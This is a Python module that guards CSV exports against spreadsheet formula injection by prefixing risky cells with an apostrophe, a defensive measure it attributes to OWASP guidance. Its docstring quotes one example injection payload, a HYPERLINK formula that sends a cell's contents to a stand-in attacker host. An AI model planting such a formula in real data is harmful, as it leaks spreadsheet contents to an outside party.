"""Files that open in a spreadsheet: every cell goes through one guard against formula injection.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some spreadsheets skip
before reading one of those) runs as a formula when the file is opened: a contact who names himself
``=HYPERLINK("https://evil.example/?"&A2,"x")`` would plant a live link in his manager's sheet. Such a cell gets
a leading apostrophe, which spreadsheets show as text (OWASP's advice for CSV injection). Every export writes
through :class:`SafeCsvWriter`; a test keeps ``csv.writer`` out of the rest of the code.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def safe_cell(value: object) -> str:
    """``value`` as the text of one cell, never read as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeCsvWriter:
    """``csv.writer`` whose every cell is :func:`safe_cell`; semicolons and a BOM, as Excel in Finland expects."""

    def __init__(self, stream: _Writable) -> None:
        stream.write("\ufeff")
        self._writer = csv.writer(stream, delimiter=";")

    def writerow(self, cells: Iterable[object]) -> None:
        self._writer.writerow([safe_cell(cell) for cell in cells])
